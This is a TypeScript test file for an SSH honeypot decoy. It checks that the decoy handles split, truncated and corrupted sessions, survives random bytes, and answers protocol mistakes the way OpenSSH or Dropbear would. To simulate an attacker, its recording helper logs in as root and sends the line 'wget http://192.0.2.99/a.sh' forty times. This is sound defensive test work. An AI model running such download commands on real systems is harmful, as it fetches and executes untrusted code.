/** The decoy without a network: splits, truncation, damage, and the answers to mistakes. */

import { Buffer } from 'node:buffer';
import { execFile } from 'node:child_process';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { EchoShell } from '../../../test/support/echo-shell.ts';
import { needTools } from '../../../test/support/need.ts';
import { serveDecoy } from '../../../test/support/serve-decoy.ts';
import { sshPersona } from '../../../test/support/ssh-persona.ts';
import type { Decoy, DecoyContext, DecoyOutput } from '../../core/decoy.ts';
import { seededRandom } from '../../core/random.ts';
import { decodeKexInit, encodeKexInit } from '../../wire/ssh-kexinit.ts';
import { sshWith } from './decoy.ts';

const decoy = sshWith(() => new EchoShell());
// Ed25519 signatures alone are the same each time.
const steady = { hostKey: ['ssh-ed25519'] };

/** The same randomness and time at every call. */
function still(context: Pick<DecoyContext, 'persona'>): DecoyContext {
  const random = seededRandom('a recorded conversation');
  let attempts = 0;
  return {
    persona: context.persona,
    source: '192.0.2.7',
    sourcePort: 40_000,
    destination: '192.0.2.10',
    destinationPort: 22,
    transport: 'tcp',
    tls: false,
    session: 'recorded',
    now: () => 1_700_000_000_000,
    randomBytes: (count) => Uint8Array.from({ length: count }, () => random.next() & 255),
    countAttempt: () => (attempts += 1),
  };
}

/** A conversation's outputs, replies that follow each other as one. */
function merge(outputs: Iterable<DecoyOutput>): DecoyOutput[] {
  const merged: DecoyOutput[] = [];
  for (const output of outputs) {
    const last = merged.at(-1);
    if (output.do === 'reply' && last?.do === 'reply') {
      merged[merged.length - 1] = { do: 'reply', bytes: Buffer.concat([last.bytes, output.bytes]) };
    } else merged.push(output.do === 'reply' ? { do: 'reply', bytes: Buffer.from(output.bytes) } : output);
  }
  return merged;
}

function converse(persona: DecoyContext['persona'], pieces: readonly Uint8Array[]): DecoyOutput[] {
  const session = decoy.open(still({ persona }));
  const outputs = [...(session.start?.() ?? [])];
  for (const piece of pieces) outputs.push(...session.receive(piece));
  outputs.push(...(session.end?.() ?? []));
  return merge(outputs);
}

const textOf = (outputs: readonly DecoyOutput[]): string =>
  Buffer.concat(outputs.map((output) => (output.do === 'reply' ? output.bytes : Buffer.alloc(0)))).toString(
    'latin1',
  );

/** Records what a real client sends to the decoy when its randomness is fixed. */
async function record(persona: DecoyContext['persona'], more: readonly string[]): Promise<Buffer> {
  const pieces: Buffer[] = [];
  const recorder: Decoy = {
    ...decoy,
    open() {
      const session = decoy.open(still({ persona }));
      return {
        start: () => session.start?.() ?? [],
        receive(bytes) {
          pieces.push(Buffer.from(bytes));
          return session.receive(bytes);
        },
        end: () => session.end?.() ?? [],
      };
    },
  };
  await using served = await serveDecoy(recorder, persona);
  const fixed = ['-F', '/dev/null', '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null'];
  await new Promise((resolve) => {
    const client = execFile(
      'sshpass',
      ['-p', 'secret', 'ssh', ...fixed, ...more, '-p', String(served.port), 'root@127.0.0.1', 'cat'],
      { timeout: 20_000 },
      resolve,
    );
    client.stdin?.end('wget http://192.0.2.99/a.sh\n'.repeat(40));
  });
  expect(served.errors).toEqual([]);
  return Buffer.concat(pieces);
}

/** Cuts at these places. */
function cut(bytes: Buffer, places: readonly number[]): Buffer[] {
  const sorted = [...new Set(places.map((place) => place % bytes.length))].sort(
    (left, right) => left - right,
  );
  const pieces: Buffer[] = [];
  let start = 0;
  for (const end of [...sorted, bytes.length]) {
    pieces.push(bytes.subarray(start, end));
    start = end;
  }
  return pieces;
}

describe('a recorded conversation', () => {
  const variants: [string, string[]][] = [
    ['chacha20-poly1305', ['-c', 'chacha20-poly1305@openssh.com']],
    ['AES in counter mode, MAC apart', ['-c', 'aes128-ctr', '-m', 'hmac-sha2-256']],
    ['AES-GCM with compression', ['-C', '-c', 'aes128-gcm@openssh.com']],
    ['AES-CBC', ['-c', 'aes128-cbc', '-m', 'umac-64@openssh.com']],
  ];
  for (const [name, more] of variants) {
    needTools(['ssh', 'sshpass'])(`gives the same however its bytes are split: ${name}`, async () => {
      const persona = sshPersona(steady);
      const bytes = await record(persona, more);
      const whole = converse(persona, [bytes]);
      expect(whole.some((output) => output.do === 'capture')).toBe(true);
      expect(
        converse(
          persona,
          Array.from(bytes, (octet) => Buffer.of(octet)),
        ),
      ).toEqual(whole);
      fc.assert(
        fc.property(fc.array(fc.nat(bytes.length), { maxLength: 12 }), (places) => {
          expect(converse(persona, cut(bytes, places))).toEqual(whole);
        }),
        { numRuns: 25 },
      );
      // Cut short, it says a beginning of what it says of the whole.
      fc.assert(
        fc.property(fc.nat(bytes.length), (length) => {
          expect(textOf(whole).startsWith(textOf(converse(persona, [bytes.subarray(0, length)])))).toBe(true);
        }),
        { numRuns: 25 },
      );
      // Damaged, it ends without a throw, and nothing beyond the damage is believed.
      fc.assert(
        fc.property(fc.nat(bytes.length - 1), fc.integer({ min: 1, max: 255 }), (place, change) => {
          const damaged = Buffer.from(bytes);
          damaged[place] = (damaged[place] ?? 0) ^ change;
          converse(persona, [damaged]);
        }),
        { numRuns: 60 },
      );
    });
  }
});

describe('bytes at random', () => {
  it('never throw, whether they follow a version line or not', () => {
    const persona = sshPersona(steady);
    fc.assert(
      fc.property(
        fc.constantFrom('', 'SSH-2.0-x\r\n', 'SSH-2.0-Go\n'),
        fc.array(fc.uint8Array({ maxLength: 400 }), { maxLength: 6 }),
        (line, pieces) => {
          converse(persona, [Buffer.from(line), ...pieces]);
        },
      ),
      { numRuns: 300 },
    );
  });

  it('after a proposal and a well-framed packet of any number never throw', () => {
    const persona = sshPersona(steady);
    const proposal = plainPacket(clientProposal());
    fc.assert(
      fc.property(fc.array(fc.uint8Array({ minLength: 1, maxLength: 200 }), { maxLength: 6 }), (payloads) => {
        converse(persona, [Buffer.from('SSH-2.0-x\r\n'), proposal, ...payloads.map(plainPacket)]);
      }),
      { numRuns: 300 },
    );
  });
});

function plainPacket(payload: Uint8Array): Buffer {
  let padding = 8 - ((payload.length + 5) % 8);
  if (padding < 4) padding += 8;
  const packet = Buffer.alloc(5 + payload.length + padding);
  packet.writeUInt32BE(1 + payload.length + padding);
  packet[4] = padding;
  packet.set(payload, 5);
  return packet;
}

function clientProposal(keyExchange: readonly string[] = ['curve25519-sha256']): Buffer {
  const lists = { hostKey: ['ssh-ed25519'], languagesToServer: [], languagesToClient: [] };
  const ciphers = ['aes128-ctr'];
  return encodeKexInit(
    {
      ...lists,
      keyExchange,
      ciphersToServer: ciphers,
      ciphersToClient: ciphers,
      macsToServer: ['hmac-sha2-256'],
      macsToClient: ['hmac-sha2-256'],
      compressionToServer: ['none'],
      compressionToClient: ['none'],
      firstPacketFollows: false,
    },
    Buffer.alloc(16),
  );
}

describe('the answers to mistakes', () => {
  const modern = sshPersona(steady);
  const early = sshPersona({ ...steady, version: 'SSH-2.0-OpenSSH_7.4' });
  const dropbear = sshPersona({ ...steady, version: 'SSH-2.0-dropbear_2019.78' });
  const after = (persona: typeof modern, text: string): string => {
    const outputs = converse(persona, [Buffer.from(text, 'latin1')]);
    expect(outputs.at(-1)).toEqual({ do: 'close' });
    return textOf(outputs).slice((persona.ssh?.version ?? '').length + 2);
  };

  it('to other protocols are those of OpenSSH 8.4', () => {
    expect(after(modern, 'GET / HTTP/1.1\r\nHost: x\r\n\r\n')).toBe('Invalid SSH identification string.\r\n');
    expect(after(modern, '\x16\x03\x01\x02\x00\x01')).toBe('Invalid SSH identification string.\r\n');
    expect(after(modern, `${'a'.repeat(9000)}\n`)).toBe('Invalid SSH identification string.\r\n');
    expect(after(modern, 'SSH-1.5-old\r\n')).toBe('Protocol major versions differ.\r\n');
  });

  it('to other protocols are those of OpenSSH 7.4', () => {
    expect(after(early, 'GET / HTTP/1.1\r\n')).toBe('Protocol mismatch.\n');
    expect(after(early, 'SSH-1.5-old\r\n')).toBe('Protocol major versions differ.\n');
  });

  it('to other protocols are silence from Dropbear, which has sent its proposal already', () => {
    const said = after(dropbear, `SSH-1.5-old\r\n`);
    expect(said.charCodeAt(5)).toBe(20);
  });

  it('to a packet of impossible length is silence after the proposal', () => {
    const proposal = textOf(converse(modern, [Buffer.from('SSH-2.0-x\r\n')]));
    const said = after(modern, 'SSH-2.0-x\r\nGET / HTTP/1.1\r\n');
    expect(`${modern.ssh?.version ?? ''}\r\n${said}`).toBe(proposal);
  });

  it('to a client with nothing in common is silence, with its HASSH known', () => {
    const bytes = Buffer.concat([
      Buffer.from('SSH-2.0-x\r\n'),
      plainPacket(clientProposal(['diffie-hellman-group-of-another-kind'])),
    ]);
    const outputs = converse(modern, [bytes]);
    expect(outputs.filter((output) => output.do === 'know')).toEqual([
      { do: 'know', protocol: 'ssh', fingerprints: { banner: 'SSH-2.0-x' } },
      { do: 'know', fingerprints: { hassh: expect.stringMatching(/^[0-9a-f]{32}$/) } },
    ]);
    expect(outputs.at(-1)).toEqual({ do: 'close' });
  });

  it("begin with the persona's own lists, padded as OpenSSH pads", () => {
    const outputs = converse(modern, [Buffer.from('SSH-2.0-x\r\n')]);
    const packet = Buffer.from(textOf(outputs), 'latin1').subarray((modern.ssh?.version ?? '').length + 2);
    const padding = packet[4] ?? 0;
    expect(packet.length % 8).toBe(0);
    expect(packet.subarray(-padding).every((octet) => octet === 0)).toBe(true);
    const proposal = decodeKexInit(packet.subarray(5, packet.length - padding));
    expect(proposal.keyExchange).toEqual(modern.ssh?.keyExchange);
    expect(proposal.macsToClient).toEqual(modern.ssh?.macs);
    expect(proposal.compressionToServer).toEqual(['none', 'zlib@openssh.com']);
  });
});
